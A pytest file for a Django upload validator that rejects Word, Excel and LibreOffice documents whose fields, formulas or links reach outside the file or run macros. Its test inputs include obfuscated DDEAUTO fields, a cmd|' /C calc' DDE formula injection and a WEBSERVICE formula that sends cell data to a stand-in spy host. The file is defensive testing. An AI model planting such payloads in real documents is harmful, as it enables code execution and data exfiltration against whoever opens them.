"""What reaches out in a document of an office program is found however it is written."""

import pytest
from django.core.exceptions import ValidationError

from base.files.gate import clear
from tests.base.files import made

REACHES_OUT = "Filen hämtar innehåll från andra filer eller från nätet. Spara den som PDF och välj den."
MACROS = "Filen innehåller makron. Spara den utan makron (docx, xlsx eller pptx) eller som PDF."
FIELD = "<w:p><w:fldChar/><w:instrText>{}</w:instrText><w:fldChar/><w:instrText>{}</w:instrText></w:p>"
IMAGE = made.RELATIONS.format(
    f'<Relationship Id="r1" Type="{made.OF_WORD}/image" Target="https://spion.example/a.png" TargetMode="External"/>'
)
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml"
LINKS = f'<Types><Override ContentType="{EXCEL}.sheet.main+xml"/><Override ContentType="{EXCEL}.%s+xml"/></Types>'


def told(content: bytes) -> str:
    """The refusal; empty where the file is taken."""
    try:
        clear(content, "a.docx")
    except ValidationError as refused:
        return refused.messages[0]
    return ""


def of_excel(asks: str) -> bytes:
    return made.zipped({"[Content_Types].xml": (LINKS % asks).encode(), "xl/a.xml": b"<a/>"})


@pytest.mark.parametrize(
    "part",
    [
        b"<w:fldSimple w:instr='DDEAUTO c:\\x'/>",
        b"<w:instrText><x:a/>DDEAUTO c:\\x</w:instrText>",
        b"<x:instrText>DDEAUTO c:\\x</x:instrText>",
        b"<w:instrText>D&#68;E c:\\x</w:instrText>",
        b"<w:instrText><![CDATA[DDE]]> c:\\x</w:instrText>",
        b"<w:p><w:instrText>DD</w:instrText><w:instrText>E c:\\x</w:instrText></w:p>",
        FIELD.format("PAGE", "DDEAUTO c:\\x").encode(),
        "<w:instrText>INCLUDEPICTURE a</w:instrText>".encode("utf-16"),
    ],
)
def test_a_field_that_fetches_is_found_however_it_is_written(part: bytes) -> None:
    assert told(made.package(word_in_header1__xml=part)) == REACHES_OUT
    assert told(made.package(a_in_b__part=part)) == REACHES_OUT


def test_fields_that_count_pages_and_link_are_taken() -> None:
    link = 'HYPERLINK "https://www.example.se/oddevold"'

    assert told(made.package(word_in_header1__xml=FIELD.format(" PAGE ", link).encode())) == ""


@pytest.mark.parametrize("name", ["word/_rels/document.xml.RELS", "WORD/_Rels/a.Rels"])
def test_what_is_fetched_is_found_whatever_the_case_of_the_name(name: str) -> None:
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{made.WORD}"/></Types>'
    parts = {"[Content_Types].xml": types.encode(), "word/document.xml": b"<w:document/>", name: IMAGE.encode()}

    assert told(made.zipped(parts)) == REACHES_OUT


def test_a_workbook_that_asks_others_is_found_by_what_its_parts_are() -> None:
    assert [told(of_excel(asks)) for asks in ("externalLink", "connections", "queryTable", "worksheet")] == [
        *[REACHES_OUT] * 3,
        "",
    ]


@pytest.mark.parametrize(
    ("part", "why"),
    [
        (b"<draw:image xlink:href='https://spion.example/a.png' xlink:actuate='onLoad'/>", REACHES_OUT),
        (b'<draw:image xlink:href="https://spion.example/a.png"/>', REACHES_OUT),
        (b'<d:image x:href="&#104;ttps://spion.example/a.png"/>', REACHES_OUT),
        (b'<draw:floating-frame xlink:href="//spion.example/a"/>', REACHES_OUT),
        (b'<text:section-source xlink:href="../hemlig.odt"/>', REACHES_OUT),
        (b'<office:dde-source office:dde-application="soffice"/>', REACHES_OUT),
        (b'<s:event-listener s:language="ooo:script" xlink:href="vnd.sun.star.script:a"/>', MACROS),
        (b"<presentation:event-listener presentation:action='execute' xlink:href='a.exe'/>", MACROS),
        (b'<presentation:event-listener presentation:action="show" xlink:href="#Bild 2"/>', ""),
        (b'<draw:image xlink:href="Pictures/a.png" xlink:actuate="onLoad"/>', ""),
        (b'<draw:object xlink:href="./Object 1"/>', ""),
        (b'<text:a xlink:href="https://www.example.se/">sidan</text:a>', ""),
    ],
)
def test_what_a_document_of_libreoffice_fetches_is_found_however_it_is_written(part: bytes, why: str) -> None:
    assert told(made.of_libreoffice(styles__xml=part)) == why


def test_a_chart_may_name_the_document_that_it_stands_in_and_nothing_outside_it() -> None:
    inside, outside = b'<chart:chart xlink:href=".."/>', b'<chart:chart xlink:href="../../hemlig.ods"/>'

    assert told(made.of_libreoffice("spreadsheet", Object_in_content__xml=inside)) == ""
    assert told(made.of_libreoffice("spreadsheet", Object_in_content__xml=outside)) == REACHES_OUT


def test_a_document_that_loads_another_by_itself_is_refused() -> None:
    reload = b'<meta:auto-reload xlink:href="https://spion.example/" meta:delay="PT1S"/>'
    template = b'<meta:template xlink:href="file:///G:/mallar/brev.ott" xlink:actuate="onRequest"/>'

    assert [told(made.of_libreoffice(meta__xml=part)) for part in (reload, template)] == [REACHES_OUT, ""]


SHEET = b"<worksheet><sheetData><c><f>%s</f></c></sheetData></worksheet>"


@pytest.mark.parametrize(
    "formula",
    [
        b'_xlfn.WEBSERVICE("https://spion.example/?" &amp; A1)',
        b'1+_xlfn.IMAGE ("https://spion.example/a.png")',
        b'&#87;EBSERVICE("https://spion.example")',
        b'WEB<!-- -->SERVICE("https://spion.example")',
        b'<x:a/>WEBSERVICE("https://spion.example")',
        b'<![CDATA[webservice("https://spion.example")]]>',
        b'RTD("a",,"b")',
        b"_xlfn._xlws.PY(0,0)",
        b"cmd|' /C calc'!A0",
        b"'[1]Blad1'!A1+cmd|A!B",
        b"'\\\\spion.example\\a\\[b.xlsx]Blad1'!A1",
        b"SUM(&apos;https://spion.example/[b.xlsx]Blad &lt;1&gt;&apos;!A1:A9)",
    ],
)
def test_a_formula_that_reaches_out_is_found_however_it_is_written(formula: bytes) -> None:
    types = LINKS % "worksheet"

    for part in (SHEET % formula, b"<x:workbook><x:definedName>%s</x:definedName></x:workbook>" % formula):
        assert told(made.zipped({"[Content_Types].xml": types.encode(), "xl/a.xml": part})) == REACHES_OUT


@pytest.mark.parametrize(
    "formula",
    [
        b"SUM(A1:A9)",
        b'HYPERLINK("https://www.example.se/","Karta")',
        b"'Blad (1)'!A1 + IMAGES(A1)",
        b"'[0]Blad 1'!A1 + SUM(Tabell1[Kostnad])",
        b'IF(A1="ja|nej",1,0)',
        b'TEXT(A1,"# ##0")',
        b"'\xc3\x85tg\xc3\xa4rder #1'!A1",
    ],
)
def test_a_formula_that_reckons_here_is_taken(formula: bytes) -> None:
    types = (LINKS % "worksheet").encode()

    assert told(made.zipped({"[Content_Types].xml": types, "xl/a.xml": SHEET % formula})) == ""


@pytest.mark.parametrize(
    ("formula", "is_taken"),
    [
        ("of:=WEBSERVICE(&quot;https://spion.example&quot;)", False),
        ("of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)", False),
        ("of:='file:///c:/hemlig.ods'#$Blad1.A1", False),
        ("of:=SUM([.A1:.A9])", True),
        ("of:=[$'Blad #2'.A1]", True),
    ],
)
def test_a_formula_of_libreoffice_is_read_likewise(formula: str, is_taken: bool) -> None:
    content = f'<office:c><table:table-cell table:formula="{formula}"/></office:c>'.encode()

    assert told(made.of_libreoffice("spreadsheet", content__xml=content)) == ("" if is_taken else REACHES_OUT)


@pytest.mark.parametrize("field", ["LINK Excel.Sheet.12 c:\\a.xlsx", " DATABASE \\d c:\\a", "RD c:\\a.docx"])
def test_a_field_that_links_another_document_is_found(field: str) -> None:
    assert told(made.package(word_in_header1__xml=FIELD.format("PAGE", field).encode())) == REACHES_OUT
